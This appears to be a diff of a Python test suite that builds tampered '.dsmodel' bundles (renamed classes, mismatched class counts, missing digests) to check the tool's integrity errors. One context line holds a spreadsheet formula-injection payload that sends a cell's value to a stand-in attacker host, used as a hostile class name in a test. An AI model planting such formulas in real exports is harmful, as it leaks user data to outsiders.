@@ -112,20 +112,49 @@ def _fifo(name: str) -> Callable[[dict[str, Any], Path], None]:
     return make
 
 
-def _bad_colour_bundle(w: dict[str, Any], d: Path) -> None:
-    """The suite's bundle with class 1's colour edited to '#zzzzzz' (as a train before colours were checked
-    wrote it); the weights and their digest are untouched."""
+def _edited_bundle(w: dict[str, Any], destination: Path, edit: Callable[[dict[str, Any]], None],
+                   reseal: bool = False) -> None:
+    """The suite's bundle with its JSON description changed by ``edit`` (weights untouched); ``reseal``: its
+    description digest made anew, as the train that wrote such a description would have."""
     import json
+
+    from engine.export.schema import description_digest
 
     data = Path(w["bundle"]).read_bytes()
     size = int.from_bytes(data[:8], "little")
     header = json.loads(data[8: 8 + size])
     meta = json.loads(header["__metadata__"]["dualstream"])
-    meta["data"]["class_colors"][1] = "#zzzzzz"
+    edit(meta)
+    if reseal:
+        meta["metadata_sha256"] = description_digest(meta)
     header["__metadata__"]["dualstream"] = json.dumps(meta)
     text = json.dumps(header).encode()
     text += b" " * (-len(text) % 8)
-    (d / "colour.dsmodel").write_bytes(len(text).to_bytes(8, "little") + text + data[8 + size:])
+    destination.write_bytes(len(text).to_bytes(8, "little") + text + data[8 + size:])
+
+
+def _bad_colour_bundle(w: dict[str, Any], d: Path) -> None:
+    """The suite's bundle with class 1's colour '#zzzzzz', as a train before colours were checked wrote it."""
+    _edited_bundle(w, d / "colour.dsmodel", lambda m: m["data"]["class_colors"].__setitem__(1, "#zzzzzz"), True)
+
+
+def _three_classes(meta: dict[str, Any], model_too: bool = False) -> None:
+    meta["data"].update(class_names=["background", "road", "water"], class_colors=["#000000", "#ff0000", "#0000ff"])
+    if model_too:
+        meta["data"]["num_classes"] = meta["model"]["num_classes"] = 3
+
+
+def _description_edits(w: dict[str, Any], d: Path) -> None:
+    """Hand-edited descriptions (issue 33, item 2): a class renamed in a current bundle; three class names on a
+    binary head in a bundle from before the description's digest (v2); and three classes on model and data."""
+    _edited_bundle(w, d / "renamed.dsmodel", lambda m: m["data"]["class_names"].__setitem__(1, "water"))
+
+    def v2(meta: dict[str, Any]) -> None:
+        meta.pop("metadata_sha256", None)
+        meta["format_version"] = 2
+
+    _edited_bundle(w, d / "names.dsmodel", lambda m: (v2(m), _three_classes(m)))
+    _edited_bundle(w, d / "head.dsmodel", lambda m: (v2(m), _three_classes(m, model_too=True)))
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'  # a class name a spreadsheet would run
@@ -293,6 +322,14 @@ CASES: list[Case] = [
     Case("bundle_truncated", lambda w, d: seg(w, d, model=w["truncated_bundle"]), ("truncated.dsmodel",)),
     Case("bundle_bit_flipped", lambda w, d: seg(w, d, model=w["flipped_bundle"]), ("flipped.dsmodel",)),
     Case("bundle_header_edited", lambda w, d: seg(w, d, model=w["edited_bundle"]), ("edited.dsmodel",)),
+    Case("bundle_description_edited", lambda w, d: seg(w, d, model=str(d / "renamed.dsmodel")),
+         ("renamed.dsmodel", "description", "checksum"), setup=_description_edits),
+    Case("bundle_class_names_disagree_with_the_model", lambda w, d: seg(w, d, model=str(d / "names.dsmodel")),
+         ("names.dsmodel", "3 class name(s)", "2 class(es)"), setup=_description_edits),
+    Case("bundle_description_disagrees_with_the_weights", lambda w, d: seg(w, d, model=str(d / "head.dsmodel")),
+         ("head.dsmodel", "described (3,", "held (1,"), setup=_description_edits),
+    Case("info_of_an_edited_bundle", lambda w, d: ["info", str(d / "renamed.dsmodel")],
+         ("renamed.dsmodel", "checksum"), setup=_description_edits),
     Case("bundle_empty_file", lambda w, d: seg(w, d, model=w["empty_bundle"]), ("empty.dsmodel",)),
     Case("bundle_is_a_pickle", lambda w, d: seg(w, d, model=w["pickle_bundle"]), ("pickle.dsmodel",)),
     Case("info_pickle_bundle", lambda w, d: ["info", w["pickle_bundle"]], ("pickle.dsmodel",)),
